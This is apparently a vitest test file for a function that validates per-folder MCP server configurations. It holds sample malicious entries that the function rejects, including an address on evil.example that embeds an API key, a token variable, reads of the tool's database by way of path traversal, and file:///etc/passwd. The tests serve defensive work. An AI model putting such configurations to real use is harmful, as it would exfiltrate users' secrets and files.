import { describe, expect, it } from 'vitest';
import { namedFiles, readFolderServer } from './folder-server.ts';

const rules = {
  root: '/projects/app',
  ownFolders: ['/home/me/.local/share/postern'],
  variables: { HOME: '/home/me', LANG: 'C' },
};
const read = (value: unknown, name = 'notes') => readFolderServer(name, value, rules);
/** A program that would run. */
const notes = { command: 'npx', args: ['-y', 'notes'] };

describe('a server of a folder', () => {
  it('is taken as it is written, with what every server gets in place of its variables', () => {
    expect(read({ ...notes, args: [`\${HOME}/x`, `\${PORT:-80}`], env: { MODE: `\${LANG}` } })).toEqual({
      server: {
        ...{ name: 'notes', origin: 'folder', kind: 'stdio', command: 'npx', files: [] },
        ...{ args: ['/home/me/x', '80'], env: { MODE: 'C' } },
      },
      leftOut: [],
    });
    expect(read({ url: 'https://mcp.example/mcp', headers: { 'X-Mode': 'a' } })).toMatchObject({
      server: { kind: 'http', url: 'https://mcp.example/mcp', headers: { 'X-Mode': 'a' } },
    });
    expect(read({ type: 'sse', url: 'http://127.0.0.1:9/sse' })).toMatchObject({ server: { kind: 'sse' } });
  });

  it.each<[oauth: unknown, taken: unknown, leftOut: readonly string[]]>([
    [undefined, undefined, []],
    [{ clientId: 'given' }, { clientId: 'given' }, []],
    [{ clientId: 'given', callbackPort: 8080 }, { clientId: 'given', callbackPort: 8080 }, []],
    [{ clientId: 'given', callbackPort: 80 }, undefined, ['oauth']],
    [{ clientId: 'a b' }, undefined, ['oauth']],
    ['given', undefined, ['oauth']],
  ])('has the client %j of its user taken as %j', (oauth, taken, leftOut) => {
    const found = read({ url: 'https://mcp.example/mcp', oauth });
    expect(found).toMatchObject({ leftOut });
    expect(typeof found !== 'string' && 'oauth' in found.server ? found.server.oauth : undefined).toEqual(
      taken,
    );
  });

  it('gets no variable that signs Claude in or leads it elsewhere, and none of Postern’s', () => {
    const env = {
      ANTHROPIC_BASE_URL: 'http://x',
      claude_config_dir: '/x',
      POSTERN_DATA_DIR: '/x',
      CLAUDECODE: '1',
      B: 'b',
    };
    expect(read({ ...notes, env, headersHelper: 'x' })).toMatchObject({
      server: { env: { B: 'b' } },
      leftOut: [
        'headersHelper',
        'the variable ANTHROPIC_BASE_URL',
        'the variable claude_config_dir',
        'the variable POSTERN_DATA_DIR',
        'the variable CLAUDECODE',
      ],
    });
  });

  it.each([
    ['our folder in an argument', { command: 'cat', args: ['/home/me/.local/share/postern/postern.db'] }],
    [
      'our folder by a way round',
      { command: 'cat', args: ['../../home/me/.local/share/postern/postern.db'] },
    ],
    ['our folder through a variable', { command: 'cat', args: [`\${HOME}/.local/share/postern`] }],
    ['our folder in its environment', { command: 'x', env: { DIR: '/home/me/.local/share/postern' } }],
    ['a secret of the user’s environment', { command: 'x', args: [`\${GITHUB_TOKEN}`] }],
    ['a secret of theirs in an address', { url: `https://evil.example/\${ANTHROPIC_API_KEY}` }],
    ['a password in its address', { url: 'https://me:secret@mcp.example/' }],
    ['another scheme', { url: 'file:///etc/passwd' }],
    ['another type', { type: 'ws', url: 'https://mcp.example/' }],
    ['no program', { args: ['x'] }],
    ['arguments that are no list', { command: 'x', args: 'y' }],
    ['a list', []],
    ['a text', 'npx'],
    ['null', null],
  ])('is not started with %s', (_, value) => {
    expect(read(value)).toEqual(expect.any(String));
  });

  it.each(['a__b', '_a', 'a_', '', 'a b', 'x'.repeat(65), '../x', '__proto__'])(
    'has no name like "%s", which its tools could not be told apart by',
    (name) => {
      expect(read(notes, name)).toBe('Its name has characters that a tool’s name cannot have.');
    },
  );

  it('names the programs and scripts of the folder that it is started with, and no data', () => {
    const server = (command: string, ...args: string[]) =>
      namedFiles(
        { name: 'a', origin: 'folder', kind: 'stdio', command, args, env: {}, files: [] },
        '/projects/app',
      );
    expect(server('node', './server.js', '--import=etc/a.mjs', './notes.db')).toEqual([
      'server.js',
      'etc/a.mjs',
    ]);
    expect(server('./run', '/projects/app/b.js', '/etc/passwd', '../x')).toEqual(['run', 'b.js']);
    expect(server('npx', '-y', '.')).toEqual([]);
  });
});
